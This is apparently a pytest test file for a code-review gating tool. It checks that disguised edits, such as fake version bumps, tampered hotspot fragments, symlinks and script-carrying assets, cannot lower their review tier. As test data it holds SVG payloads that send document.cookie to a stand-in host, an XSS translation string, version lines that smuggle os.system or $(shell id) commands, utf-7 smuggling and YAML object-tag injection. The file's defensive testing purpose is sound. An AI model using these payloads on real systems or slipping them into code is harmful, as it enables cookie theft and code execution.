"""Hostile drafts against what issue 12 added: the ``version_only`` lowering (gates/bumps.py), the
learned hotspots (``hotspots:``) and ``gate learn``, and the asset exclusions of the default policy.

Each case is a draft that wants a lower tier than its change deserves. Cases marked xfail need a
change in a file another engineer owns (gates/classify.py, gates/symbols.py, the default policy);
the reason names it.
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from gates.errors import PolicyError
from gates.model import Classification, FileClass
from gates.policy.hotspots import parse

from .conftest import Repo
from .test_bumps import judged as judged_by_default
from .test_hotspots import MODULE
from .test_hotspots import judged as judged_hot

# ---- version_only: a line that looks like a version bump but is something else ----------------


def judged(repo: Repo, path: str, before: str | bytes, after: str | bytes) -> FileClass:
    """The staged edit of one file, judged by the shipped default."""
    (fc,) = judged_by_default(repo, path, before, after).files  # type: ignore[arg-type]
    return fc


def lowered(fc: FileClass) -> bool:
    return any(m.rule.endswith(".version-only") for m in fc.matches)


CALL = "def f(token):\n    return check(\n        token,\n        version=\"1.2\",\n    )\n"
CALL_AT_COLUMN_0 = "def f(token):\n    return check(token,\nversion = \"1.2\"\n)\n"
SETUP = 'from setuptools import setup\n\nsetup(\n    name="app",\n    version="1.1.3",\n)\n'


@pytest.mark.parametrize(("path", "before", "after"), [
    # a keyword argument of some call in an auth module: a protocol's version, not a release
    ("app/auth/views.py", CALL, CALL.replace('"1.2"', '"1.0"')),
    ("app/auth/views.py", CALL_AT_COLUMN_0, CALL_AT_COLUMN_0.replace('"1.2"', '"1.0"')),
    # a module constant the code sends (a token format), outside the files releases keep
    ("app/auth/jwt.py", 'ALG = "HS256"\nVERSION = "2"\n', 'ALG = "HS256"\nVERSION = "1"\n'),
    ("app/auth/flows.py", 'release = "2"\n', 'release = "1"\n'),
    # a class attribute in a TLS package: the minimum protocol, not the package's version
    ("app/ssl/ctx.py", "class Context:\n    version = 1.2\n",
     "class Context:\n    version = 1.0\n"),
    # an expression where a literal was: the names it reads decide the value
    ("app/auth/__init__.py", "__version__ = 1\n", "__version__ = 1-DEBUG\n"),
    ("app/auth/__init__.py", '__version__ = "1.2"\n', '__version__ = "1.3"; import os\n'),
    # a second statement behind a form feed, a bare CR, a line separator
    ("app/auth/__init__.py", '__version__ = "1.2"\nimport os\n',
     '__version__ = "1.3"\rimport os; os.system("id")\nimport os\n'),
    # conftest.py runs at every test run: its VERSION is not a release
    ("conftest.py", 'VERSION = "1.2"\n', 'VERSION = "1.3"\n'),
    # a .pth line is a path (or code, when it starts with import): never a version
    ("site.pth", "version = 1.2\n", "version = 1.3\n"),
    # a build script: an assignment in code
    ("build.rs", "fn main() {}\nversion = 1\n", "fn main() {}\nversion = 2\n"),
    # Makefile recipe lines are shell, and a line ending in \ carries the next into its value
    ("Makefile", "all:\n\tVERSION = 1.2\n", "all:\n\tVERSION = 1.3\n"),
    ("Makefile", "FLAGS = -x \\\nVERSION = 1.2\n", "FLAGS = -x \\\nVERSION = 1.3\n"),
    ("Makefile", "VERSION = 1.2\n", "VERSION = 1.3 $(shell id)\n"),
    # version: in a Makefile is a rule (a target and its prerequisites)
    ("Makefile", "version: 1.2\n\techo\n", "version: 1.3\n\techo\n"),
    # a shell line in a workflow's run block, not a key
    (".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    steps:\n      - run: |\n"
     "          VERSION = 1.2\n", "on: push\njobs:\n  a:\n    steps:\n      - run: |\n"
     "          VERSION = 1.3\n"),
    # uses: is GitHub's YAML: in Python it is an annotation evaluated at import
    ("app/auth/__init__.py", "uses: a/b@v1\n", "uses: a/b@v2\n"),
    # utf-7 turns '+AAo-' into a line break: Python would run what follows
    ("app/auth/__init__.py", '# coding: utf-7\n__version__ = "1.2"\n',
     '# coding: utf-7\n__version__ = "1.3+ACIAOw-import+ACA-os+ADs-x+AD0AIg-"\n'),
    ("app/auth/__init__.py", "# coding: utf-7\n__version__ = 1.2\n",
     "# coding: utf-7\n__version__ = 1.3+AAo-import+ACA-os\n"),
    # a BOM git shows as a character in front of the name
    ("app/auth/__init__.py", '\ufeff__version__ = "1.2"\n', '\ufeff__version__ = "1.3"\n'),
])
def test_a_line_that_only_looks_like_a_version_keeps_the_tier(
        repo: Repo, path: str, before: str, after: str) -> None:
    fc = judged(repo, path, before, after)
    assert fc.tier == "high", fc.matches
    assert not lowered(fc)


@pytest.mark.parametrize(("path", "before", "after"), [
    ("app/auth/__init__.py", 'from .core import login\n\n__version__ = "1.4.2"\n',
     'from .core import login\n\n__version__ = "1.4.3"\n'),
    ("app/auth/__init__.py", "VERSION = (1, 4, 2)\n", "VERSION = (1, 5, 0, 'rc1')\n"),
    ("app/auth/__init__.py", '__version__: str = "1.2"\r\n', '__version__: str = "1.3"\r\n'),
    ("app/auth/_version.py", "version = '1.2'\n", "version = '1.3'\n"),
    ("app/auth/tokens.py", "__version__ = '1.2'  # released\n",
     "__version__ = '1.3'  # released\n"),
    ("setup.py", SETUP, SETUP.replace("1.1.3", "1.1.4")),
    ("Makefile", "VERSION = 1.2 # x\n\nall:\n\techo $(VERSION)\n",
     "VERSION = 1.3 # x\n\nall:\n\techo $(VERSION)\n"),
    ("tox.ini", "[tox]\nversion = 1.2\n", "[tox]\nversion = 1.3\n"),
    (".vscode/tasks.json", '{\n  "version": "2.0.0",\n  "tasks": []\n}\n',
     '{\n  "version": "2.0.1",\n  "tasks": []\n}\n'),
    (".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    steps:\n"
     "      - uses: actions/checkout@v4\n", "on: push\njobs:\n  a:\n    steps:\n"
     "      - uses: actions/checkout@v5\n"),
])
def test_a_release_is_still_a_version_bump(repo: Repo, path: str, before: str,
                                           after: str) -> None:
    fc = judged(repo, path, before, after)
    assert fc.tier == "medium", fc.matches
    assert lowered(fc)


# ---- hotspots: the fragment comes from the trusted revision, and a hot function cannot hide ----

FRAGMENT = textwrap.dedent('''\
    version: 1
    hotspots:
      - path: lib/session.py
        symbol: Session.check
        fix: CVE-2023-1111
      - path: lib/session.py
        symbol: parse_header
        fix: CVE-2023-2222
      - path: lib/parse.js
        symbol: verifyToken
        fix: CVE-2023-3333
    ''')
SCRIPT = textwrap.dedent('''\
    const x = 1;

    function verifyToken(token, key) {
      if (!token) {
        return false;
      }
      const sig = sign(token, key);
      return sig === token.sig;
    }

    function other() {
      return 2;
    }
    ''')
POLICY = "extends: default\nhotspots: .gate/hotspots.yaml\n"
UNSAFE = MODULE.replace("return token == self.secret", "return True")


def hot_repo(repo: Repo, policy: str = POLICY, **extra: str) -> Repo:
    files = {"lib/session.py": MODULE, "lib/parse.js": SCRIPT, ".gate/hotspots.yaml": FRAGMENT,
             ".gate.yaml": policy, **extra}
    for path, text in files.items():
        repo.write(path, text)
    repo.commit("policy with hotspots")
    return repo


def hot_reasons(result: Classification, path: str) -> list[str]:
    return [m.evidence.text or "" for f in result.files if f.file.path == path
            for m in f.matches if m.category == "hotspots"]


def test_a_change_that_empties_the_fragment_and_the_key_is_judged_by_the_base(
        repo: Repo) -> None:
    hot_repo(repo)
    repo.write(".gate.yaml", "extends: default\n")
    repo.write(".gate/hotspots.yaml", "version: 1\nhotspots: []\n")
    repo.write("lib/session.py", UNSAFE)
    result = judged_hot(repo)
    assert hot_reasons(result, "lib/session.py") == ["touched by the fix of CVE-2023-1111"]
    rules = {f.file.path: [m.rule for m in f.matches] for f in result.files}
    assert "gate-policy.dependency" in rules[".gate/hotspots.yaml"]


def test_a_range_that_empties_the_fragment_still_meets_it(repo: Repo) -> None:
    hot_repo(repo)
    repo.git("checkout", "-q", "-b", "feature")
    repo.write(".gate/hotspots.yaml", "version: 1\nhotspots: []\n")
    repo.write("lib/session.py", UNSAFE)
    repo.commit("drop the hotspots")
    data = repo.gate_json("--base", "main", "--explain")
    entry = next(f for f in data["files"] if f["path"] == "lib/session.py")
    assert "CVE-2023-1111" in json.dumps(entry)
    assert data["tier"] == "high"


def test_a_fragment_named_through_extends_is_gate_critical(repo: Repo) -> None:
    hot_repo(repo, "extends: conf/team.yaml\n",
             **{"conf/team.yaml": "extends: default\nhotspots: ../.gate/hotspots.yaml\n"})
    repo.write(".gate/hotspots.yaml", "version: 1\nhotspots: []\n")
    repo.write("lib/session.py", UNSAFE)
    result = judged_hot(repo)
    assert hot_reasons(result, "lib/session.py")
    rules = {f.file.path: [m.rule for m in f.matches] for f in result.files}
    assert "gate-policy.dependency" in rules[".gate/hotspots.yaml"]


@pytest.mark.parametrize(("policy", "message"), [
    ("extends: default\nhotspots: ../outside.yaml\n", "outside the repository"),
    ("extends: default\nhotspots: /etc/hostname\n", "cannot read '/etc/hostname'"),
    ("extends: default\nhotspots: lib\n", "cannot read 'lib'"),
    ("extends: default\nhotspots: lib/session.py\n", "invalid YAML"),
])
def test_a_fragment_the_base_cannot_give_is_a_policy_error(repo: Repo, tmp_path: Path,
                                                           policy: str, message: str) -> None:
    (tmp_path / "outside.yaml").write_text("version: 1\nhotspots: []\n")
    hot_repo(repo, policy)
    repo.write("lib/session.py", UNSAFE)
    done = repo.gate("check")
    assert done.returncode == 2, done.stderr
    assert message in done.stderr and "Traceback" not in done.stderr


@pytest.mark.parametrize("link", [".gate/hotspots.yaml", ".gate"])
def test_a_symbolic_link_in_the_base_is_not_followed(repo: Repo, link: str) -> None:
    """git stores a link as its target's name: the gate reads that, never the file behind it
    (which a later change could edit without touching the path the policy names)."""
    hot_repo(repo)
    real = repo.root / "elsewhere"
    (repo.root / link).rename(real)
    target = Path("elsewhere") if link == ".gate" else Path("..") / "elsewhere"
    (repo.root / link).symlink_to(target)
    repo.git("add", "-A")
    repo.commit("fragment behind a link")
    repo.write("lib/session.py", UNSAFE)
    done = repo.gate("check")
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr


@pytest.mark.parametrize("fragment", [
    "just text\n", "- a\n", "version: true\n", "version: 1.0\n", "learned: x\n",
    "hotspots: {a: 1}\n", "hotspots: [a.py]\n", "hotspots: [{path: 3}]\n",
    "hotspots: [{path: .}]\n", 'hotspots: [{path: "a\\eb.py"}]\n',
    "hotspots: [{path: a.py, symbol: 0}]\n", "hotspots: [{path: a.py, symbol: false}]\n",
    "hotspots: [{path: a.py, symbol: [x]}]\n", "hotspots: [{path: a.py, fix: [x]}]\n",
    "hotspots: [{path: a.py, commit: {a: 1}}]\n", "hotspots: [{path: a.py, commit: true}]\n",
    "hotspots: [{<<: {path: a.py}}]\n", "hotspots: !!python/object:os.system [x]\n",
    "hotspots: " + "[" * 3000 + "]" * 3000 + "\n",
    "a: &a [x, x]\nb: [*a, *a]\n",
])
def test_a_hostile_fragment_is_a_policy_error_never_a_crash(fragment: str) -> None:
    with pytest.raises(PolicyError):
        parse(fragment, ".gate/hotspots.yaml")


def test_a_hostile_fragment_exits_2_from_the_cli(repo: Repo) -> None:
    hot_repo(repo, **{".gate/hotspots.yaml": "hotspots: [{path: a.py, symbol: false}]\n"})
    repo.write("lib/session.py", UNSAFE)
    done = repo.gate("check")
    assert done.returncode == 2 and "hotspots[0].symbol" in done.stderr, done.stderr


@pytest.mark.parametrize(("path", "after"), [
    ("lib/session.py", MODULE.replace("    def check(self",
                                      "    @staticmethod\n    def check(self")),
    ("lib/session.py", UNSAFE.replace("\n", "\r")),
    ("lib/session.py", MODULE.replace("class Session:", "class Session:\n    def check(self, t):"
                                      "\n        return True\n\n    def _old(self, t):")
     .replace("    def check(self, token):", "    def _unused(self, token):", 1)),
    ("lib/parse.js", SCRIPT.replace("  if (!token) {", "  function inner() {} if (false) {")),
])
def test_hot_code_touched_in_disguise_still_hits(repo: Repo, path: str, after: str) -> None:
    hot_repo(repo)
    repo.write(path, after)
    assert hot_reasons(judged_hot(repo), path)


@pytest.mark.parametrize("after", [
    pytest.param(MODULE + "Session.check = lambda self, token: True\n", id="monkeypatch"),
    pytest.param(MODULE.replace('        return "session"\n',
                                '        return "session"\n\n    check = describe\n'),
                 id="class-body-rebind"),
    pytest.param(MODULE + "parse_header = str.partition\n", id="function-rebind"),
    pytest.param(MODULE + "from os.path import split as parse_header\n", id="import-shadow"),
    pytest.param(MODULE.replace("class Session:", "@trusting\nclass Session:"),
                 id="class-decorator"),
    pytest.param(MODULE.replace("    def describe(self):",
                                "    def __getattribute__(self, name):\n"
                                "        return lambda *a: True\n\n    def describe(self):"),
                 id="getattribute"),
])
def test_rebinding_a_hot_name_hits_it(repo: Repo, after: str) -> None:
    hot_repo(repo)
    repo.write("lib/session.py", after)
    assert hot_reasons(judged_hot(repo), "lib/session.py")


def test_a_comment_that_looks_like_a_declaration_does_not_hide_the_hot_function(
        repo: Repo) -> None:
    hot_repo(repo)
    repo.write("lib/parse.js", SCRIPT.replace(
        "  return sig === token.sig;\n",
        "  // function helper\n  if (token) return true;\n  return sig === token.sig;\n"))
    assert hot_reasons(judged_hot(repo), "lib/parse.js")


# ---- gate learn: what it writes from untrusted history -----------------------------------------

def test_learn_replaces_a_planted_link_at_the_output_and_writes_nothing_behind_it(
        repo: Repo, tmp_path: Path) -> None:
    repo.write("src/pkg/session.py", MODULE)
    repo.commit("initial")
    repo.write("src/pkg/session.py", UNSAFE)
    repo.commit("Fix CVE-2023-4444 in Session.check")
    victim = tmp_path / "victim.txt"
    victim.write_text("keep\n")
    (repo.root / ".gate").mkdir()
    (repo.root / ".gate" / "hotspots.yaml").symlink_to(victim)
    done = repo.gate("learn")
    assert done.returncode == 0, done.stderr
    written = repo.root / ".gate" / "hotspots.yaml"
    assert not written.is_symlink() and victim.read_text() == "keep\n"
    assert [h.symbol for h in parse(written.read_text(), "f")] == ["Session.check"]


def test_learn_prints_no_escape_from_the_history(repo: Repo) -> None:
    repo.write("pyproject.toml", '[project]\nname = "x\\u001b]0;pwned\\u0007"\n')
    repo.write("src/pkg/a\x1b[2Jb.py", "X = 1\n")
    repo.commit("initial")
    repo.write("src/pkg/a\x1b[2Jb.py", "X = 2\n")
    repo.commit("Fix CVE-2023-4445 \x1b]52;c;cHduZWQ=\x07 security fix")
    done = repo.gate("learn", "--output", "-")
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout + done.stderr and "\x07" not in done.stdout + done.stderr


# ---- assets excluded from auth, crypto and web-security: can they run? ------------------------

SVG = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>\n'


@pytest.mark.parametrize(("path", "before", "after"), [
    pytest.param("app/auth/static/logo.svg", SVG,
                 SVG.replace("<circle", "<script>fetch('//e.example/'+document.cookie)</script>"
                             "<circle"), id="svg-script"),
    pytest.param("app/auth/static/logo.svg", SVG,
                 SVG.replace("<svg ", "<svg onload=\"fetch('//e.example/'+document.cookie)\" "),
                 id="svg-onload"),
    pytest.param("app/auth/locale/de/LC_MESSAGES/messages.po",
                 'msgid "Sign in"\nmsgstr "Anmelden"\n',
                 'msgid "Sign in"\nmsgstr "<img src=x onerror=alert(document.cookie)>"\n',
                 id="po-markup"),
])
def test_an_asset_that_carries_script_is_not_low(repo: Repo, path: str, before: str,
                                                  after: str) -> None:
    assert judged(repo, path, before, after).tier == "high"


def test_a_compiled_translation_is_opaque_not_low(repo: Repo) -> None:
    fc = judged(repo, "app/auth/locale/de/LC_MESSAGES/messages.mo",
                b"\xde\x12\x04\x95\x00\x00", b"\xde\x12\x04\x95\x00\x01")
    assert fc.tier == "medium" and [m.rule for m in fc.matches] == ["opaque.kind"]


def test_an_asset_without_script_stays_out_of_the_slow_lane(repo: Repo) -> None:
    """The active-content rule reads markup that runs, not every SVG or translation edit."""
    assert judged(repo, "app/auth/static/logo.svg", SVG,
                  SVG.replace('r="4"', 'r="5" fill="#0af"')).tier == "low"
    assert judged(repo, "app/auth/locale/de/LC_MESSAGES/messages.po",
                  'msgid "Sign in"\nmsgstr "Anmelden"\n',
                  'msgid "Sign in"\nmsgstr "Einloggen"\n').tier == "low"
